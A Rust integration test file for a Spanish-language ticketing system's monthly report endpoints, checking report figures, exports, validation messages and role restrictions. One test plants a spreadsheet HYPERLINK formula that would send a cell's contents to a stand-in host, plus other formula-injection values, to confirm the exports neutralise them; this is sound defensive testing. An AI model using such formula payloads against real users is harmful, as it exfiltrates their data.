use campo_tests::{Backend, DEMO_PASSWORD, TestApp, both_backends};

/// The date `offset_days` from today in Bogota, `AAAA-MM-DD`.
fn bogota_date(offset_days: i64) -> String {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
        - 5 * 3600;
    // Civil date from days since the epoch (Howard Hinnant's algorithm).
    let z = secs.div_euclid(86_400) + offset_days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!("{year}-{month:02}-{day:02}")
}

both_backends!(the_demo_coordinator_downloads_the_monthly_report);
async fn the_demo_coordinator_downloads_the_monthly_report(backend: Backend) {
    let app = TestApp::spawn_demo(backend).await;
    let coordinator = app.login("coordinador", DEMO_PASSWORD).await;
    // The last 30 days hold every demo ticket (its stories span a few days before now).
    let (from, to) = (bogota_date(-29), bogota_date(0));
    let period = format!("from={from}&to={to}");

    let page = coordinator
        .get(&format!("/api/reports/monthly?{period}"))
        .await;
    assert_eq!(page.status, 200, "{}", page.body);
    let general = &page.body["general"];
    // The demo registers one ticket per path of the procedure (ten states), in the last days.
    let received = general["headline"]["received"].as_u64().unwrap();
    assert!(received >= 10, "{general}");
    assert_eq!(general["headline"]["carried_over"], 0);
    assert_eq!(
        page.body["detail"].as_array().unwrap().len() as u64,
        received
    );
    assert_eq!(general["daily"].as_array().unwrap().len(), 30);
    // The demo sent one ticket's equipment to the workshop and another's to the contractor in its
    // last days; neither has come back, so both are out at the period's end, for a day or more
    // each (how many depends on the hour the test runs). Moves are counted on the day they
    // happen: a period that ends before the demo's stories has none.
    let equipment = &general["equipment"];
    assert_eq!(
        [
            &equipment["workshop_sends"],
            &equipment["contractor_sends"],
            &equipment["returns"],
            &equipment["out_at_end"]
        ],
        [1, 1, 0, 2],
        "{equipment}"
    );
    assert!(
        equipment["custody_days"].as_u64().unwrap() >= 2,
        "{equipment}"
    );
    let before = coordinator
        .get(&format!(
            "/api/reports/monthly?from={}&to={}",
            bogota_date(-40),
            bogota_date(-5)
        ))
        .await;
    assert_eq!(before.status, 200, "{}", before.body);
    assert_eq!(
        before.body["general"]["equipment"],
        serde_json::json!({"workshop_sends": 0, "contractor_sends": 0, "returns": 0,
                           "out_at_end": 0, "custody_days": 0})
    );
    let charts = page.body["charts"].as_array().unwrap();
    assert_eq!(charts.len(), 4);
    assert!(charts[0]["svg"].as_str().unwrap().starts_with("<svg"));

    let chart_url = charts[2]["url"].as_str().unwrap();
    let chart = coordinator.get(chart_url).await;
    assert_eq!(chart.status, 200);
    assert_eq!(chart.header("content-type"), Some("image/svg+xml"));
    assert!(chart.body.as_str().unwrap().contains("ANS"));

    for (ext, content_type) in [
        ("pdf", "application/pdf"),
        (
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("csv", "text/csv; charset=utf-8"),
    ] {
        let file = coordinator
            .get(&format!("/api/reports/monthly.{ext}?{period}"))
            .await;
        assert_eq!(file.status, 200, "{ext}");
        assert_eq!(file.header("content-type"), Some(content_type));
        assert_eq!(
            file.header("content-disposition"),
            Some(format!("attachment; filename=\"informe-{from}_{to}.{ext}\"").as_str())
        );
    }
    let csv = coordinator
        .get(&format!("/api/reports/monthly.csv?{period}"))
        .await;
    assert!(
        csv.body
            .as_str()
            .unwrap()
            .starts_with("\u{feff}Número;Fecha de registro;")
    );

    // The survey's 1–5 scale, in the words the phone shows the official, in the JSON and under
    // the satisfaction tables of the exports.
    assert_eq!(
        general["satisfaction"]["scale"],
        serde_json::json!(["Muy malo", "Malo", "Regular", "Bueno", "Muy bueno"])
    );
    let scale = "Escala: 1 = Muy malo, 2 = Malo, 3 = Regular, 4 = Bueno, 5 = Muy bueno.";
    let general_csv = coordinator
        .get(&format!("/api/reports/monthly.csv?{period}&tabla=general"))
        .await;
    assert!(
        general_csv.body.as_str().unwrap().contains(scale),
        "{}",
        general_csv.body
    );
    let xlsx = coordinator
        .http()
        .get(coordinator.url(&format!("/api/reports/monthly.xlsx?{period}")))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let (cells, _) = campo_tests::xlsx::text_cells(&xlsx).unwrap();
    assert!(
        cells.iter().any(|c| c.text == scale),
        "no scale in the workbook"
    );

    // Other roles may not read the report.
    let tecnico = app.login("tecnico1", DEMO_PASSWORD).await;
    let refused = tecnico.get(&format!("/api/reports/monthly?{period}")).await;
    assert_eq!(refused.status, 403);
}

both_backends!(a_bad_period_is_explained_in_spanish);
async fn a_bad_period_is_explained_in_spanish(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin().await;
    for (query, says) in [
        ("month=2026-13", "use el formato AAAA-MM"),
        ("month=octubre", "use el formato AAAA-MM"),
        ("from=2026-10-31&to=2026-10-01", "es posterior a la final"),
        ("from=2026-10-01", "las dos fechas"),
        ("from=2025-01-01&to=2026-06-30", "como máximo 366"),
        ("", "Indique el mes"),
        ("month=2026-10&channel=fax", "canal"),
        ("month=2026-10&priority=urgente", "prioridad"),
    ] {
        let reply = admin.get(&format!("/api/reports/monthly?{query}")).await;
        assert_eq!(reply.status, 400, "{query}");
        let message = reply.body["error"]["message"].as_str().unwrap();
        assert!(message.contains(says), "{query}: {message}");
    }
    let unknown = admin
        .get("/api/reports/charts/torta.svg?month=2026-10")
        .await;
    assert_eq!(unknown.status, 404);
    let table = admin
        .get("/api/reports/monthly.csv?month=2026-10&tabla=otra")
        .await;
    assert_eq!(table.status, 400);

    // An empty month is a report of zeros, not an error.
    let empty = admin.get("/api/reports/monthly?month=2026-10").await;
    assert_eq!(empty.status, 200);
    assert_eq!(empty.body["general"]["headline"]["received"], 0);
    assert_eq!(empty.body["general"]["period"]["label"], "octubre de 2026");
    assert_eq!(empty.body["general"]["daily"].as_array().unwrap().len(), 31);
}

both_backends!(text_typed_as_a_formula_reaches_the_exports_as_text);
async fn text_typed_as_a_formula_reaches_the_exports_as_text(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin().await;
    let dependencia = admin
        .post(
            "/api/dependencias",
            &serde_json::json!({"code": "FORMULAS", "name": "@SUM(1+1)"}),
        )
        .await;
    assert_eq!(dependencia.status, 201, "{}", dependencia.body);
    let official = admin
        .post(
            "/api/users",
            &serde_json::json!({"username": "ltorres", "full_name": "Luz Torres",
                "role": "funcionario", "password": "clave de luz", "dependencia": "FORMULAS"}),
        )
        .await;
    assert_eq!(official.status, 201, "{}", official.body);
    // An official types a «description» that a spreadsheet would run: a link that sends the
    // neighbouring cell away, and a category that is a sum.
    let hyperlink = r#"=HYPERLINK("http://malo.example/?d="&A1,"Ver detalle")"#;
    let official = app.login("ltorres", "clave de luz").await;
    let created = official
        .post(
            "/api/tickets",
            &serde_json::json!({"description": hyperlink, "category": "+1", "location": "Piso 2"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.body);

    let period = format!("from={}&to={}", bogota_date(-1), bogota_date(0));
    let csv = admin
        .get(&format!("/api/reports/monthly.csv?{period}"))
        .await;
    assert_eq!(csv.status, 200);
    let csv = csv.body.as_str().unwrap();
    let row = csv
        .lines()
        .find(|l| l.contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("no ticket row in\n{csv}"));
    // The fields as Excel reads them: quoted by the CSV rules, each starting with «'».
    assert!(
        row.contains(r#";"'=HYPERLINK(""http://malo.example/?d=""&A1,""Ver detalle"")";"#),
        "{row}"
    );
    assert!(row.contains(";'+1;"), "{row}");
    assert!(row.contains(";'@SUM(1+1);"), "{row}");
    // Counts stay numbers.
    assert!(row.contains(";0;0;"), "{row}");

    let general = admin
        .get(&format!("/api/reports/monthly.csv?{period}&tabla=general"))
        .await;
    let general = general.body.as_str().unwrap();
    assert!(general.contains("\n'+1;1;0;1"), "{general}");
    assert!(general.contains("\n'@SUM(1+1);1;0;1"), "{general}");

    let xlsx = admin
        .http()
        .get(admin.url(&format!("/api/reports/monthly.xlsx?{period}")))
        .send()
        .await
        .unwrap();
    assert_eq!(xlsx.status(), 200);
    let bytes = xlsx.bytes().await.unwrap();
    let (cells, formulas) = campo_tests::xlsx::text_cells(&bytes).unwrap();
    assert!(!formulas, "the workbook holds a formula");
    for typed in [hyperlink, "+1", "@SUM(1+1)"] {
        let found: Vec<_> = cells.iter().filter(|c| c.text == typed).collect();
        assert!(!found.is_empty(), "«{typed}» is not in the workbook");
        for cell in found {
            // Shown as typed, and kept as text: Excel's quote prefix.
            assert!(cell.quote_prefix, "{cell:?}");
        }
    }
    // Ordinary text has no prefix.
    let plain = cells.iter().find(|c| c.text == "Luz Torres").unwrap();
    assert!(!plain.quote_prefix, "{plain:?}");
}
